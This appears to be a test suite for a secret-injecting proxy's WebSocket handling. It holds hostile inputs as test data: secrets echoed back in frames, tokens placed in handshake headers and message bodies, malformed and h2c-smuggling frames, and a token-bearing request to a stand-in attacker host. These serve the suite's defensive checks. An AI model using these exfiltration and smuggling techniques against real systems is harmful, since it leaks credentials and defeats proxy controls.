// Published attack 1 over WebSocket (dust #29295: Sec-WebSocket-Protocol; OpenShell #872, #1286: secrets in frames): what the handshake carries,
// and what a server repeats in its frames.
import { afterEach, describe, expect, it } from 'vitest';
import { Lab } from '../proxy/lab.ts';
import { RawUpstream, Wire } from './wire.ts';

let lab: Lab | undefined;
let upstream: RawUpstream | undefined;

afterEach(async () => {
  await lab?.close();
  upstream?.close();
  lab = upstream = undefined;
});

const TEXT = 1;
const BINARY = 2;
const CLOSE = 8;
const PING = 9;
const PONG = 10;

/** From a server: not masked. */
function frame(opcode: number, payload: Buffer | string, isFinal = true): Buffer {
  const bytes = Buffer.from(payload);
  return Buffer.concat([Buffer.from([(isFinal ? 0x80 : 0) | opcode, bytes.length]), bytes]);
}

/** From a client, with a key of zeros: as readable as without. */
function masked(opcode: number, payload: Buffer | string): Buffer {
  const bytes = Buffer.from(payload);
  return Buffer.concat([Buffer.from([0x80 | opcode, 0x80 | bytes.length, 0, 0, 0, 0]), bytes]);
}

const HANDSHAKE =
  'GET /chat HTTP/1.1\r\nHost: ws.example.com\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n';
const SWITCHING = 'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n';

interface Opened {
  readonly lab: Lab;
  readonly upstream: RawUpstream;
  readonly wire: Wire;
}

/** A WebSocket whose server sends these frames at once. */
async function open(frames: (value: string) => readonly Buffer[], fields = '', swap?: readonly string[]): Promise<Opened> {
  const started = await RawUpstream.start((socket, soFar) => {
    const value = /x-api-key: (\S+)/i.exec(soFar)?.[1] ?? '';
    if (socket.bytesWritten > 0 || !soFar.includes('\r\n\r\n')) return;
    socket.write(`${SWITCHING}X-Echo: ${value}\r\n\r\n`);
    for (const bytes of frames(value)) socket.write(bytes);
  });
  upstream = started;
  const slots = swap === undefined ? {} : { swap };
  lab = await Lab.start({ secrets: [{ name: 'TOKEN', hosts: ['ws.example.com:80'], ...slots }], dial: { open: started.open } });
  const wire = new Wire(await lab.connect('ws.example.com:80'));
  wire.write(
    `${HANDSHAKE}Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nX-Api-Key: ${lab.token()}\r\n${fields.replaceAll('TOKEN', lab.token())}\r\n`,
  );
  await wire.until(() => wire.text.includes('\r\n\r\n'));
  return { lab, upstream: started, wire };
}

describe('a WebSocket whose server repeats the value', () => {
  it.each<[string, (value: string) => readonly Buffer[]]>([
    ['a text message', (value) => [frame(TEXT, `key: ${value}`)]],
    ['a binary message', (value) => [frame(BINARY, `\x00${value}\x00`)]],
    ['fragments', (value) => [frame(TEXT, value.slice(0, 5), false), frame(PING, 'x'), frame(0, value.slice(5))]],
    ['fragments of one byte', (value) => [frame(TEXT, '', false), ...Array.from(value, (byte) => frame(0, byte, false)), frame(0, '')]],
    ['the payload of a ping', (value) => [frame(PING, value)]],
    ['the payload of a pong', (value) => [frame(PONG, `pong ${value}`)]],
    ['the payload of a ping between fragments', (value) => [frame(TEXT, 'a', false), frame(PING, value), frame(0, 'b')]],
    ['base64', (value) => [frame(TEXT, Buffer.from(`x${value}`).toString('base64'))]],
  ])('reflection over WebSocket: %s', async (_what, frames) => {
    const { lab, upstream, wire } = await open((value) => [...frames(value), frame(TEXT, 'the end')]);
    await wire.until(() => wire.text.includes('the end'));
    expect(upstream.seen.join('')).toContain(lab.value());
    expect(wire.text.startsWith('HTTP/1.1 101 ')).toBe(true);
    expect(wire.text).toContain(`X-Echo: ${lab.token()}\r\n`);
    lab.examine(wire.text);
    // What a fragment's header stands between is put together.
    const payload = Array.from(wire.text)
      .filter((character) => character >= ' ' && character <= '~')
      .join('');
    lab.examine(payload);
  });

  it('reflection over WebSocket: the reason of a close', async () => {
    const { lab, wire } = await open((value) => [frame(CLOSE, Buffer.concat([Buffer.from([3, 0xe8]), Buffer.from(`bad key ${value}`)]))]);
    await wire.until(() => wire.text.includes('bad key'));
    lab.examine(wire.text);
    expect(wire.text).toContain(`bad key ${lab.token()}`);
  });

  it('reflection over WebSocket: a refused handshake', async () => {
    upstream = await RawUpstream.start((socket, soFar) => {
      const value = /x-api-key: (\S+)/i.exec(soFar)?.[1] ?? '';
      socket.write(`HTTP/1.1 403 No ${value}\r\nX-Echo: ${value}\r\nContent-Length: ${String(value.length)}\r\n\r\n${value}`);
    });
    lab = await Lab.start({ secrets: [{ name: 'TOKEN', hosts: ['ws.example.com:80'] }], dial: { open: upstream.open } });
    const wire = new Wire(await lab.connect('ws.example.com:80'));
    wire.write(`${HANDSHAKE}X-Api-Key: ${lab.token()}\r\n\r\n`);
    const [answer] = await wire.answers(1);
    expect(answer).toMatchObject({ status: 403, body: lab.token() });
    lab.examine(wire.text);
  });
});

describe('a WebSocket of the child', () => {
  it('exfiltration over WebSocket: the token in Sec-WebSocket-Protocol and -Extensions is not swapped', async () => {
    const { lab, upstream } = await open(() => [], 'Sec-WebSocket-Protocol: chat, TOKEN\r\nSec-WebSocket-Extensions: x; k=TOKEN\r\n');
    const seen = upstream.seen.join('');
    expect(seen).toContain(`X-Api-Key: ${lab.value()}`);
    expect(seen).toContain(`Sec-WebSocket-Protocol: chat, ${lab.token()}`);
    expect(seen.split(lab.value())).toHaveLength(2);
  });

  it('exfiltration over WebSocket: the token in a message is not swapped unless the config says so', async () => {
    const { lab, upstream, wire } = await open(() => []);
    for (const opcode of [TEXT, BINARY, PING]) wire.write(masked(opcode, JSON.stringify({ password: lab.token() })));
    await expect.poll(() => upstream.seen.join('').split(lab.token()).length, { timeout: 10_000 }).toBe(4);
    expect(upstream.seen.join('').split(lab.value())).toHaveLength(2);
  });

  it('exfiltration over WebSocket: with the body as a slot, pings and binary messages are none', async () => {
    const { lab, upstream, wire } = await open(() => [], '', ['header:x-api-key', 'body']);
    for (const opcode of [BINARY, PING, PONG]) wire.write(masked(opcode, lab.token()));
    await expect.poll(() => upstream.seen.join('').split(lab.token()).length, { timeout: 10_000 }).toBe(4);
    expect(upstream.seen.join('').split(lab.value())).toHaveLength(2);
  });

  it.each([
    ['compressed', [0xc1, 0x80, 0, 0, 0, 0]],
    ['not masked', [0x81, 0x00]],
    ['of an unknown kind', [0x83, 0x80, 0, 0, 0, 0]],
  ])('smuggling over WebSocket: a frame that is %s ends the connection', async (_what, bytes) => {
    const { wire } = await open(() => []);
    wire.write(Buffer.from(bytes));
    await wire.closed();
    expect(wire.text).toMatch(/^HTTP\/1\.1 101 /);
  });

  it('host identity: a WebSocket to another Host is refused', async () => {
    upstream = await RawUpstream.start((socket) => socket.write(`${SWITCHING}\r\n`));
    lab = await Lab.start({ dial: { open: upstream.open } });
    const wire = new Wire(await lab.connect('evil.example.net:80'));
    wire.write(`${HANDSHAKE}X-Api-Key: ${lab.token()}\r\n\r\n`);
    expect((await wire.answers(1))[0]?.status).toBe(421);
    const secure = new Wire(await lab.tunnel('evil.example.net:443', { serverName: 'ws.example.com' }));
    secure.write(`${HANDSHAKE}X-Api-Key: ${lab.token()}\r\n\r\n`);
    expect((await secure.answers(1))[0]?.status).toBe(421);
    expect(upstream.seen).toEqual([]);
  });

  // nono #1617.
  it('smuggling over WebSocket: an upgrade to another protocol than the one asked for is none', async () => {
    upstream = await RawUpstream.start((socket) =>
      socket.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n'),
    );
    lab = await Lab.start({ dial: { open: upstream.open } });
    for (const fields of ['Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n', 'Upgrade: h2c\r\n', '']) {
      const wire = new Wire(await lab.connect('api.example.com:80'));
      wire.write(`GET / HTTP/1.1\r\nHost: api.example.com\r\n${fields}\r\n`);
      expect((await wire.answers(1))[0]?.status).toBe(502);
    }
    expect(upstream.seen.join('')).not.toMatch(/^(?:Upgrade|HTTP2-Settings):/im);
  });
});
